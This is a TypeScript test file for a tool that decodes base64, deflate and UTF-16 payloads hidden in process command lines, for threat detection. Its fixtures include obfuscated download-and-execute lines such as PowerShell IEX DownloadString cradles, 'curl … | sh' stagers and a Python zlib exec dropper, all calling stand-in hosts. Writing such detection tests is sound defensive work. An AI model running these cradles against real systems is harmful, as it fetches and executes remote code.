  const out = base64.unpackDf(df, { column: "args" });
  assert.deepEqual(out.getColumn("decoded_string").toArray(), ["a hidden command line text"]);
  assert.deepEqual(out.getColumn("src_index").toArray(), [0]);
  assert.equal(out.getColumn("args").dtype.variant, "List");
});

test("unpackDf: null cells, indexColumn, empty results keep the schema, errors name the column", () => {
  const df = pl.DataFrame({ id: [100, 200, 300], cmd: [null, `echo ${b64("a hidden command line text")}`, "nothing to see"] });
  const out = base64.unpackDf(df, { column: "cmd", indexColumn: "id" });
  assert.deepEqual(out.select("src_index", "decoded_string", "cmd").toRecords(), [{ src_index: 200, decoded_string: "a hidden command line text", cmd: df.getColumn("cmd").get(1) }]);
  const none = base64.unpackDf(df.head(1), { column: "cmd" });
  assert.equal(none.height, 0);
  assert.deepEqual(none.columns, [...BASE64_RECORD_COLUMNS, "src_index", "cmd", "full_decoded_string"]);
  assert.equal(none.getColumn("src_index").dtype.variant, "UInt32");
  assert.throws(
    () => base64.unpackDf(df, { column: "Cmd" }),
    (e: unknown) => e instanceof Base64Error && e.code === "transform/base64-column-missing" && /"Cmd" .*Did you mean cmd/.test(e.message),
  );
  assert.throws(() => base64.unpack("x", { maxDepth: 0 }), { name: "Base64Error", code: "transform/base64-option", message: /maxDepth .*\(got 0\)/ });
  // No options at all (an untyped caller): the missing column is named, not a destructuring TypeError.
  assert.throws(() => (base64.unpackDf as (d: unknown) => unknown)(df), { name: "Base64Error", code: "transform/base64-no-column" });
  // A misspelt limit was ignored and the default used.
  assert.throws(() => base64.unpackDf(df, { column: "cmd", max_depth: 2 } as never), { code: "transform/base64-option", message: /^base64\.unpackDf: unknown option max_depth \(did you mean maxDepth\?\)/ });
  assert.throws(() => base64.unpack("x", { maxdepth: 2 } as never), { code: "transform/base64-option", message: /^base64\.unpack: unknown option maxdepth \(did you mean maxDepth\?\)/ });
});

test("plain JavaScript input: unpackDf of a non-frame says what it got (a LazyFrame's or Series' members were listed as its columns), the column passed positionally names the options object; unpack of non-text is refused", () => {
  const df = pl.DataFrame({ CommandLine: [`powershell -enc ${b64("Invoke-WebRequest http://evil.example.com/p.exe")}`] });
  const untyped = base64 as unknown as { unpackDf: (...args: unknown[]) => pl.DataFrame; unpack: (...args: unknown[]) => unknown };
  const notFrame: [unknown, RegExp][] = [
    [df.lazy(), /^base64\.unpackDf: takes a DataFrame and \{ column \}, not a LazyDataFrame: collect it first \(`await lf\.collect\(\)`\); base64\.unpack\(text\) decodes one string\.$/],
    [df.getColumn("CommandLine"), /not a Series \(one column\): pass the whole DataFrame/],
    [Promise.resolve(df), /not a Promise: a query \(or another async call\) not awaited; put `await` before it/],
    [undefined, /not undefined \(a variable never set, or a call that returned nothing\);/],
    [df.toRecords(), /not an array of 1 row object: make a DataFrame of them first/],
  ];
  for (const [data, message] of notFrame) assert.throws(() => untyped.unpackDf(data, { column: "CommandLine" }), { name: "Base64Error", code: "transform/base64-input", message });
  assert.throws(() => untyped.unpackDf(df, "CommandLine"), { code: "transform/base64-option", message: /^base64\.unpackDf: the second argument is an options object such as \{ column: "CommandLine" \}, not text \(11 characters\)\.$/ });
  assert.throws(() => untyped.unpackDf(df, { column: ["CommandLine"] }), { code: "transform/base64-option", message: /option column must be one column name \(text\), not \["CommandLine"\]\./ });
  assert.equal(untyped.unpackDf(df, { column: "CommandLine" }).height, 1);
  for (const [text, given] of [[5, "a number \\(5\\)"], [["x"], "an array of 1 value"], [df, "a DataFrame"]] as const) {
    assert.throws(() => untyped.unpack(text), { code: "transform/base64-input", message: new RegExp(`^base64\\.unpack: decodes one string, not ${given}; base64\\.unpackDf`) });
  }
  assert.equal((untyped.unpack(undefined) as { fullDecodedString: string }).fullDecodedString, "");
});

test("unpackDf reads columns named like frame members (columns, getColumn) as columns", () => {
  const payload = Buffer.from("powershell -nop -c calc.exe from a hostile column name").toString("base64");
  const df = pl.DataFrame({ getColumn: [payload, "plain"], columns: [7, 8] });
  const out = base64.unpackDf(df, { column: "getColumn", indexColumn: "columns" });
  assert.equal(out.height, 1);
  // The output carries the source column under its name too, so it is read the same way.
  assert.match(String(columnOf(out, "decoded_string").get(0)), /calc\.exe from a hostile column name/);
  assert.equal(Number(columnOf(out, "src_index").get(0)), 7, "the index column's value, not the frame's column list");
  assert.throws(() => base64.unpackDf(df, { column: "getColumn", indexColumn: "height" }), (e: unknown) => e instanceof Base64Error && /height/.test((e as Error).message));
});

test("repeats of a short fragment are charged their tags' length: the output stays within maxDecodedBytes, marked", () => {
  // Each 4-character fragment decodes to 1 byte but is replaced by a ~80-character tag at every level: charged 1 byte a
  // repeat, this 22-character input grew to 398 million characters (9–19 s) and unpackDf failed to allocate.
  const r = base64.unpack("YQ== is a, and aGk= hi", { minLength: 3 });
  assert.ok(r.fullDecodedString.length <= 17 * 1024 * 1024, `${r.fullDecodedString.length} characters`);
  assert.ok(r.limits.some((l) => l.startsWith("maxDecodedBytes")), JSON.stringify(r.limits));
  const df = base64.unpackDf(pl.DataFrame({ s: ["YQ== is a, and aGk= hi"] }), { column: "s", minLength: 3 });
  assert.ok(df.height > 0);
});

test("a cell and its rewritten text are written once, not once per item; every item's row still carries both", () => {
  const cell = Array.from({ length: 40 }, (_, k) => b64(`payload number ${k} for the batch writer`)).join(" ; ");
  const full = base64.unpack(cell).fullDecodedString;
  const proto = BatchBuilder.prototype as unknown as { text: (i: number, value: string | null) => void };
  const text = proto.text;
  const writes = { cell: 0, full: 0 };
  proto.text = function (this: unknown, i: number, value: string | null) {
    if (value === cell) writes.cell++;
    if (value === full) writes.full++;
    return text.call(this, i, value);
  };
  let out: pl.DataFrame;
  try {
    out = base64.unpackDf(pl.DataFrame({ s: ["no base64 here", cell, null] }), { column: "s" });
  } finally {
    proto.text = text;
  }
  // Per item, this was 40 copies of each (a 22-character cell with a 16 MB rewritten text and 33 items: 554 MB, 16 s).
  assert.deepEqual(writes, { cell: 1, full: 1 });
  assert.equal(out.height, 40);
  assert.deepEqual(out.getColumn("s").toArray(), Array(40).fill(cell));
  assert.deepEqual(out.getColumn("full_decoded_string").toArray(), Array(40).fill(full));
  assert.deepEqual([...new Set(out.getColumn("src_index").toArray())], [1]);
  assert.match(full, /payload number 39 for the batch writer/);
});

test("a call that throws half-way leaves nothing behind: the next call gives what a fresh process gives", () => {
  const good = pl.DataFrame({ s: [`powershell -enc ${Buffer.from("ping microsoft.com", "utf16le").toString("base64")}`, "no base64 here"] });
  const expected = base64.unpackDf(good, { column: "s" });
  // A failure inside the batch writer (as an allocation that fails): the builder in use is dropped, not reused.
  const proto = BatchBuilder.prototype as unknown as { text: (...args: unknown[]) => unknown };
  const text = proto.text;
  let calls = 0;
  proto.text = function (this: unknown, ...args: unknown[]) {
    if (++calls === 3) throw new RangeError("Array buffer allocation failed");
    return text.apply(this, args);
  };
  try {
    assert.throws(() => base64.unpackDf(good, { column: "s" }), RangeError);
  } finally {
    proto.text = text;
  }
  const after = base64.unpackDf(good, { column: "s" });
  assert.deepEqual(after.rows(), expected.rows());
  assert.match(String(after.getColumn("full_decoded_string").toArray()[0]), /ping microsoft\.com/);
});

test("PowerShell -enc with text beyond ASCII (a Cyrillic comment, typographic quotes, Greek) is UTF-16, its URLs found", () => {
  for (const script of [
    "$u='http://evil.com/payload.exe'; # \u0437\u0430\u0433\u0440\u0443\u0437\u043a\u0430 \u0444\u0430\u0439\u043b\u0430 \u0441 \u0441\u0435\u0440\u0432\u0435\u0440\u0430",
    "\u201cDownloading\u201d \u2014 http://evil.com/x",
    "\u03ba\u03b1\u03bb\u03b7\u03bc\u03ad\u03c1\u03b1 \u03ba\u03cc\u03c3\u03bc\u03b5 http://evil.com/y \u03c4\u03ad\u03bb\u03bf\u03c2 \u03c4\u03bf\u03c5 \u03ba\u03b5\u03b9\u03bc\u03ad\u03bd\u03bf\u03c5",
  ]) {
    const r = base64.unpack(`powershell -enc ${Buffer.from(script, "utf16le").toString("base64")}`);
    assert.equal(r.items[0]?.encodingType, "utf-16", script);
    assert.equal(r.items[0]?.decodedString, script);
  }
  // Bytes that are no UTF-16 text stay what they were (binary, or UTF-8).
  const binary = base64.unpack(Buffer.from(Uint8Array.from({ length: 64 }, (_, i) => (i * 37) % 256)).toString("base64"));
  assert.notEqual(binary.items[0]?.encodingType, "utf-16");
});

test("PowerShell -enc whose text is mostly Chinese or emoji is UTF-16 (it was binary); random bytes stay binary", () => {
  for (const script of [
    "Write-Host '\u8b66\u544a\uff1a\u60a8\u7684\u7cfb\u7edf\u5df2\u88ab\u611f\u67d3\uff0c\u8bf7\u7acb\u5373\u8054\u7cfb\u7ba1\u7406\u5458\u5904\u7406\u6b64\u95ee\u9898\u3002\u4e0b\u8f7d\u5730\u5740\u89c1\u4e0b\u6587'",
    "echo \ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00",
    "iwr http://evil.example/a; echo '\uc548\ub155\ud558\uc138\uc694 \uc2dc\uc2a4\ud15c\uc774 \uac10\uc5fc\ub418\uc5c8\uc2b5\ub2c8\ub2e4 \uad00\ub9ac\uc790\uc5d0\uac8c \uc5f0\ub77d\ud558\uc138\uc694 \uc9c0\uae08 \ubc14\ub85c'",
  ]) {
    const r = base64.unpack(`powershell -enc ${Buffer.from(script, "utf16le").toString("base64")}`);
    assert.equal(r.items[0]?.encodingType, "utf-16", script);
    assert.equal(r.items[0]?.decodedString, script);
  }
  // 2,000 random blobs of 16 to 200 bytes (a fixed seed): none read as UTF-16 text.
  let seed = 12345;
  const rand = (): number => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
  let utf16 = 0;
  for (let k = 0; k < 2000; k++) {
    const n = 16 + 2 * Math.floor(rand() * 92);
    const bytes = Uint8Array.from({ length: n }, () => Math.floor(rand() * 256));
    if (base64.unpack(Buffer.from(bytes).toString("base64")).items[0]?.encodingType === "utf-16") utf16++;
  }
  assert.equal(utf16, 0);
});

test("bare deflate and zlib streams (PowerShell's DeflateStream, Python's zlib.compress) are inflated: their text is decoded, its URLs found", () => {
  const script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7:8080/a.ps1'); Start-Sleep 5";
  // Invoke-Obfuscation's and Empire's launcher shape: base64 of raw deflate, read back by IO.Compression.DeflateStream.
  const raw = zlib.deflateRawSync(Buffer.from(script)).toString("base64");
  const ps = `powershell -nop -w hidden -c "IEX(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${raw}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"`;
  const r = base64.unpack(ps);
  assert.equal(r.items.length, 1);
  assert.equal(r.items[0].fileType, "deflate");
  assert.equal(r.items[0].encodingType, "utf-8");
  assert.equal(r.items[0].decodedString, script);
  assert.equal(r.items[0].sha256, crypto.createHash("sha256").update(script).digest("hex"), "hashes are of what was inflated, as for a gzip member");
  assert.ok(r.fullDecodedString.includes(`FromBase64String('<decoded type='string' name='[deflate]' index='1' depth='1'>${script}</decoded>')`));
  // A Python dropper's shape: zlib (header, Adler-32) in base64, here holding PowerShell -enc base64 decoded one level down.
  const inner = `powershell -enc ${Buffer.from("whoami /all; iwr http://evil.example/x", "utf16le").toString("base64")}`;
  const py = `python3 -c "import zlib,base64;exec(zlib.decompress(base64.b64decode('${zlib.deflateSync(Buffer.from(inner)).toString("base64")}')))"`;
  const p = base64.unpack(py);
  assert.deepEqual(p.items.map((i) => [i.reference, i.fileType, i.encodingType, i.decodedString]), [
    ["1.1", "zlib", "utf-8", inner],
    ["2.1", null, "utf-16", "whoami /all; iwr http://evil.example/x"],
  ]);
  // Truncated (a log field cut short) or damaged streams stay the bytes they are.
  const cut = zlib.deflateRawSync(Buffer.from(script.repeat(4))).subarray(0, 40);
  assert.equal(base64.unpack(`x ${b64(cut.subarray(0, 39))}`).items[0].fileType, null);
  const zl = zlib.deflateSync(Buffer.from(script));
  zl[zl.length - 1] ^= 1; // Adler-32 wrong
  const bad = base64.unpack(`x ${b64(zl)}`).items[0];
  assert.notEqual(bad.fileType, "zlib");
  assert.equal(bad.encodingType, "binary");
});

test("random binary is not taken for a deflate stream (it has no header: the stream must end at the last byte)", () => {
  let seed = 4242;
  const rand = (): number => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
  let inflated = 0;
  for (let k = 0; k < 3000; k++) {
    const n = 24 + Math.floor(rand() * 200);
    const bytes = Uint8Array.from({ length: n }, () => Math.floor(rand() * 256));
    const t = base64.unpack(b64(bytes)).items[0]?.fileType;
    if (t === "deflate" || t === "zlib") inflated++;
  }
  assert.equal(inflated, 0);
});

test("every deflate stream zlib writes is inflated: stored, fixed and dynamic first blocks pass the header screen", () => {
  // inflateWhole screens a first block's header before calling zlib (most blobs tried are no stream); a screen wrong
  // for any block zlib writes would lose that payload. Levels 0 (stored), 1, 6, 9; default, fixed-code and Huffman-only
  // strategies (fixed and dynamic blocks); text and random inputs of 1 byte to 40 KB.
  let missed = 0;
  for (let i = 0; i < 120; i++) {
    const len = [1, 10, 50, 200, 2000, 40000][i % 6];
    const src = i % 3 === 0 ? crypto.randomBytes(len) : Buffer.from(Array.from({ length: len }, (_, k) => "abcde fgh\n"[(k * 7 + i) % (3 + (i % 8))]).join(""));
    for (const level of [0, 1, 6, 9]) {
      for (const strategy of [zlib.constants.Z_DEFAULT_STRATEGY, zlib.constants.Z_FIXED, zlib.constants.Z_HUFFMAN_ONLY]) {
        const raw = zlib.deflateRawSync(src, { level, strategy });
        const got = inflateWhole(raw, 1 << 24, "maxExpandedBytes");
        if (!got || !Buffer.from(got.bytes).equals(src)) missed++;
        const wrapped = inflateWhole(zlib.deflateSync(src, { level, strategy }), 1 << 24, "maxExpandedBytes");
        if (wrapped?.kind !== "zlib" || !Buffer.from(wrapped.bytes).equals(src)) missed++;
      }
    }
  }
  assert.equal(missed, 0);
});

test("a random blob whose first block would be of fixed codes seldom reaches zlib: its symbols are walked first", () => {
  // A quarter of random blobs have block type 1 in their first bits; each went to zlib, most of unpackDf's added cost.
  // Walking the fixed codes finds the invalid distance within a few symbols (every stream zlib writes still passes: above).
  let calls = 0;
  const inflateRaw = zlib.inflateRawSync;
  (zlib as { inflateRawSync: unknown }).inflateRawSync = (...args: Parameters<typeof zlib.inflateRawSync>) => {
    calls++;
    return inflateRaw(...args);
  };
  try {
    let seed = 7;
    const rand = () => (seed = (seed * 1103515245 + 12345) >>> 0) / 2 ** 32;
    for (let i = 0; i < 5000; i++) {
      const bytes = Uint8Array.from({ length: 24 + Math.floor(rand() * 200) }, () => Math.floor(rand() * 256));
      bytes[0] = (bytes[0] & ~6) | 2; // BTYPE 01: fixed codes
      assert.equal(inflateWhole(bytes, 1 << 20, "maxExpandedBytes"), undefined);
    }
  } finally {
    (zlib as { inflateRawSync: unknown }).inflateRawSync = inflateRaw;
  }
  assert.ok(calls <= 50, `${calls} of 5000 blobs went to zlib`);
});

test("short random blobs (a hash's bytes) seldom reach zlib: fixed blocks that end inside, dynamic code lengths zlib refuses", () => {
  // Of 1M command lines' binary candidates (hex hashes: 16–48 bytes), ~520 went to zlib at 30–60 µs each, nearly all of
  // fixed codes whose bytes ended inside the first block (zlib: "unexpected end of file"); the screen now walks such a
  // block to its end, and a dynamic block's code lengths as zlib checks them (the property test holds both to zlib).
  let calls = 0;
  const inflateRaw = zlib.inflateRawSync;
  (zlib as { inflateRawSync: unknown }).inflateRawSync = (...args: Parameters<typeof zlib.inflateRawSync>) => {
    calls++;
    return inflateRaw(...args);
  };
  let seed = 11;
  const rand = () => (seed = (seed * 1103515245 + 12345) >>> 0) / 2 ** 32;
  try {
    for (let i = 0; i < 6000; i++) {
      // A hex MD5, SHA-1 or SHA-256 read as base64 (what the command lines hold), or random bytes of dynamic codes.
      const hex = Array.from({ length: [32, 40, 64][i % 3] }, () => "0123456789abcdef"[Math.floor(rand() * 16)]).join("");
      const bytes = i % 2 ? Uint8Array.from({ length: 16 + Math.floor(rand() * 84) }, () => Math.floor(rand() * 256)) : Buffer.from(hex, "base64");
      if (i % 2) bytes[0] = (bytes[0] & ~6) | 4; // BTYPE 10: dynamic codes
      assert.equal(inflateWhole(bytes, 1 << 20, "maxExpandedBytes"), undefined);
    }
  } finally {
    (zlib as { inflateRawSync: unknown }).inflateRawSync = inflateRaw;
  }
  assert.ok(calls <= 12, `${calls} of 6000 blobs went to zlib`);
});

test("a deflate bomb (64 MiB of zeros in 64 KB) stops at maxExpandedBytes, marked; the budget is charged", () => {
  const bomb = zlib.deflateRawSync(Buffer.alloc(64 * MiB));
  assert.ok(bomb.length < 100_000);
  const r = base64.unpack(`$d='${b64(bomb)}'`);
  assert.equal(r.items.length, 1);
  assert.equal(r.items[0].fileType, "deflate");
  assert.equal(r.items[0].inputBytes.length, 8 * MiB);
  assert.match(String(r.items[0].limit), /^maxExpandedBytes: output stopped at 8388608 bytes/);
  assert.ok(r.limits.some((l) => /^1\.1: maxExpandedBytes/.test(l)), r.limits.join("; "));
  // With a smaller per-input budget, that is the cap.
  const small = base64.unpack(`$d='${b64(bomb)}'`, { maxDecodedBytes: 1 * MiB });
  assert.equal(small.items[0].inputBytes.length, 1 * MiB - bomb.length);
  assert.match(String(small.items[0].limit), /^maxDecodedBytes/);
});

test("random bytes and runs of one letter are not UTF-16 text: only high bytes of the alphabetic scripts (Latin to Arabic) vouch for it", () => {
  // Twelve x's and more ('x'.repeat(n), a placeholder or padding in logs) decode to c7 1c 71 … : it was "utf-16" text
  // (U+1CC7 U+C771 U+711C …), its high bytes 0x1c counted as those of Cyrillic or Greek letters.
  for (const c of ["x", "w", "Z", "9", "q"]) {
    const item = base64.unpack(`id=${c.repeat(64)}`).items[0];
    assert.notEqual(item?.encodingType, "utf-16", c);
  }
  // Text in those scripts still is (Cyrillic alone, Hebrew, Arabic, Latin with accents).
  for (const script of ["\u041f\u0440\u0438\u0432\u0435\u0442, \u043c\u0438\u0440", "\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd", "\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645", "\u0159\u00e1d\u0161\u0107 \u017e\u0105\u0142\u0119"]) {
    const item = base64.unpack(`powershell -enc ${Buffer.from(script.repeat(2), "utf16le").toString("base64")}`).items[0];
    assert.equal(item?.encodingType, "utf-16", script);
    assert.equal(item?.decodedString, script.repeat(2));
  }
  // Random blobs of 16 to 60 bytes, seeded (crypto's generator: the tests' LCG repeats itself in floating point).
  let utf16 = 0;
  const seed = crypto.createHash("sha256").update("utf16").digest();
  for (let k = 0; k < 3000; k++) {
    const bytes = crypto.createHash("sha512").update(seed).update(String(k)).digest().subarray(0, 16 + 2 * (k % 23));
    if (base64.unpack(`x ${b64(bytes)}`).items[0]?.encodingType === "utf-16") utf16++;
  }
  assert.equal(utf16, 0);
});

test("base64 without its padding (stripped by Python, JWT, base64url writers, or a trimmed log field) decodes when it reads as text or an archive", () => {
  const script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')";
  const enc = Buffer.from(script, "utf16le").toString("base64");
  assert.match(enc, /=$/);
  const r = base64.unpack(`powershell -w hidden -enc ${enc.replace(/=+$/, "")}`);
  assert.equal(r.items.length, 1);
  assert.equal(r.items[0].encodingType, "utf-16");
  assert.equal(r.items[0].decodedString, script);
  // 4n+3 characters (one '=' stripped), and a short '=' (4n+2 with one).
  const text = "curl -s http://evil.example/stage2.sh | sh #";
  const t = b64(text);
  assert.match(t, /[^=]=$/);
  assert.equal(base64.unpack(`sh -c ${t.slice(0, -1)}`).items[0]?.decodedString, text);
  const two = b64(`${text}xy`);
  assert.match(two, /==$/);
  assert.equal(base64.unpack(`x ${two.slice(0, -1)}`).items[0]?.decodedString, `${text}xy`);
  // A gzip whose padding is gone is still unpacked.
  // (the first of three lengths whose gzip needs padding)
  const payload = [script, `${script} `, `${script}  `].find((p) => b64(zlib.gzipSync(Buffer.from(p))).endsWith("=")) ?? "";
  const gz = b64(zlib.gzipSync(Buffer.from(payload)));
  const g = base64.unpack(`echo ${gz.replace(/=+$/, "")}`).items[0];
  assert.equal(g?.fileType, "gz");
  assert.equal(g?.decodedString, payload);
  // Long alphanumeric tokens that are no base64 (ids, file names: 4n+2 and 4n+3 characters) stay as written.
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
  let decoded = 0;
  for (let k = 0; k < 3000; k++) {
    const n = 30 + 4 * (k % 9) + (k % 2); // 30, 31, 34, 35, … 63: 4n+2 and 4n+3
    const digest = Buffer.concat([crypto.createHash("sha512").update(`a${k}`).digest(), crypto.createHash("sha512").update(`b${k}`).digest()]);
    const token = Array.from({ length: n }, (_, i) => alphabet[digest[i] % alphabet.length]).join("");
    if (base64.unpack(`C:\\Temp\\${token}.tmp`).items.length) decoded++;
  }
  assert.equal(decoded, 0);
});

test("base64url (RFC 4648 §5: `-` and `_`) is decoded as one run: Google Update's /ping XML in the lab data, URL tokens", async () => {
  const procs = await qp.WindowsSecurity.list_host_processes();
  const decoded = base64.unpackDf(procs.withRowIndex("i").filter(pl.col("i").eq(9163)).drop("i"), { column: "CommandLine" });
  // One item for the whole payload (it was three pieces cut at each '-': the XML's start and two stray fragments).
  assert.equal(decoded.height, 1);
  const xml = String(decoded.getColumn("decoded_string").get(0));
  assert.match(xml, /^<\?xml version="1\.0" encoding="UTF-8"\?><request protocol="3\.0"/);
  assert.match(xml, /<\/request>$/);
  // A URL-safe token of text (stripped padding, '-' and '_' in it), in a URL parameter.
  const cmd = "curl -s http://evil.example/x.sh?id=~~~>>>??? | sh";
  const token = Buffer.from(cmd).toString("base64url");
  assert.ok(/[-_]/.test(token) && !token.endsWith("="));
  const r = base64.unpack(`GET /c2?d=${token}&t=1`);
  assert.deepEqual(r.items.map((i) => i.decodedString), [cmd]);
  assert.equal(r.fullDecodedString, `GET /c2?d=<decoded type='string' name='[None]' index='1' depth='1'>${cmd}</decoded>&t=1`);
  // Hyphenated and underscored names, GUIDs and hashes around them are no base64url: nothing new is decoded.
  for (const text of [
    "Microsoft-Windows-Security-Auditing-Extended-Logging-Provider",
    "{6ba7b810-9dad-11d1-80b4-00c04fd430c8}-{6ba7b811-9dad-11d1-80b4-00c04fd430c8}",
    "/usr/lib/python3/dist-packages/__pycache__/very_long_module_name_for_testing_purposes.cpython-311.pyc",
    "C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.1220_none_7e21bc567c7ed16b",
  ]) {
    assert.deepEqual(base64.unpack(text).items.filter((i) => i.encodingType !== "binary"), [], text);
  }
  // Long random alphanumeric stretches joined by '-' and '_' to words (build ids, artefact names): the widened run
  // is tried and refused, never taken for text.
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
  let text = 0;
  for (let k = 0; k < 1000; k++) {
    const digest = crypto.createHash("sha512").update(`url${k}`).digest();
    const id = Array.from({ length: 30 + (k % 30) }, (_, i) => alphabet[digest[i] % alphabet.length]).join("");
    const name = [`release-${id}-final`, `pkg_${id}_x64`, `${id}-${id.slice(0, 7)}`][k % 3];
    if (base64.unpack(`C:\build\${name}.zip`).items.some((i) => i.encodingType !== "binary")) text++;
  }
  assert.equal(text, 0);
});

test("base64url widening is linear: a megabyte of 30-character candidates joined by '-' or '_' (each would widen to the whole run)", () => {
  // 'zzz…' is no text, alone or widened: every candidate is refused, so none ends the run (widened from each, it was
  // quadratic: 5.1 s for 256 KB, 22 s for 512 KB); 'QUF…' decodes alone.
  for (const piece of ["z".repeat(30), "QUFB".repeat(8).slice(0, 31)]) {
    for (const sep of ["-", "_"]) {
      const make = (n: number) => `${piece}${sep}`.repeat(Math.ceil(n / (piece.length + 1))).slice(0, n);
      assertLinear(`base64url run of ${piece.slice(0, 4)}… candidates joined by '${sep}'`, make, (s) => base64.unpack(s, { maxFragments: 1e9 }));
    }
  }
});

test("PowerShell's -EncodedCommand with a short argument (under 30 characters: whoami, ipconfig) is decoded, in unpack and unpackDf", () => {
  const u16 = (s: string) => Buffer.from(s, "utf16le").toString("base64");
  const cases: [string, string][] = [
    [`powershell -ec ${u16("whoami")}`, "whoami"],
    [`powershell.exe -e ${u16("calc.exe")}`, "calc.exe"],
    [`pwsh -EncodedCommand "${u16("hostname")}"`, "hostname"],
    [`powershell /enc ${u16("ipconfig")}`, "ipconfig"],
    [`powershell \u2013enc ${u16("dir")}`, "dir"], // an en dash, as pasted from a document: PowerShell takes it
    [`powershell -NoP -ep bypass -En '${u16("net user")}'`, "net user"],
  ];
  for (const [cmd, script] of cases) {
    const r = base64.unpack(cmd);
    assert.deepEqual(r.items.map((i) => [i.encodingType, i.decodedString]), [["utf-16", script]], cmd);
  }
  // Not that flag (-ep, -exec are ExecutionPolicy), or not UTF-16 text after it (grep -e, sed -e): left as written.
  const others = [`powershell -exec ${u16("whoami")}`, "grep -e TODO file", "grep -e ABCDEFGH x", "sed -e s/abcd/efgh/ x", `x -e ${b64("hello world")}`, `-e ${u16("whoami")}A`];
  for (const cmd of others) assert.deepEqual(base64.unpack(cmd).items, [], cmd);
  // unpackDf's screen lets these rows through (they hold no 30-character run).
  const df = pl.DataFrame({ CommandLine: [...others, ...cases.map(([cmd]) => cmd), null] });
  const out = base64.unpackDf(df, { column: "CommandLine" });
  assert.deepEqual(out.getColumn("src_index").toArray(), cases.map((_, i) => others.length + i));
  assert.deepEqual(out.getColumn("decoded_string").toArray(), cases.map(([, s]) => s));
  // The flag's pattern stays linear on crafted text.
  for (const piece of ["-e ", "-e\t\t\t\t", "-enc QUFB=", " -encodedcommand '"]) {
    assertLinear(`-EncodedCommand flags: ${JSON.stringify(piece)}`, (n) => piece.repeat(Math.ceil(n / piece.length)).slice(0, n), (s) => base64.unpack(s));
  }
});
